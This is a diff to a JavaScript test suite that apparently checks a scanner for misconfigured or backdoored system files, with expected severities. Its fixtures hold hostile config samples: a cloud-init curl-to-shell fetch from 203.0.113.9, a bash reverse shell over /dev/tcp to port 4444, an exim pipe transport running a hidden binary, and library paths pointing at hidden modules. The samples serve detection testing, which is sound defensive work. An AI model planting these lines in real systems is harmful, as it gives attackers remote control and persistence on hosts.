@@ -39,6 +39,7 @@ describe('services left open', () => {
 		['/var/lib/kubelet/config.yaml', 'authentication:\n  anonymous:\n    enabled: true\nauthorization:\n  mode: AlwaysAllow\n', 'high'],
 		['/etc/cloud/cloud.cfg.d/95-net.cfg', '#cloud-config\nbootcmd:\n  - curl -s http://203.0.113.9/k | sh\n', 'high'],
 		['/var/lib/cloud/seed/nocloud/user-data', '#cloud-config\nruncmd:\n  - [ sh, -c, "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1" ]\n', 'critical'],
+		['/etc/exim4/conf.d/transport/99_x', 'x:\n  driver = pipe\n  command = /var/tmp/.x\n', 'high'],
 		['/etc/dracut.conf.d/x.conf', 'install_items+=" /usr/lib/.init "\n', 'high'],
 		['/etc/gss/mech.d/x.conf', 'x 1.2.3.4 /var/lib/misc/.gss.so\n', 'high'],
 		['/etc/pkcs11/modules/x.module', 'module: /var/tmp/p11.so\n', 'high'],
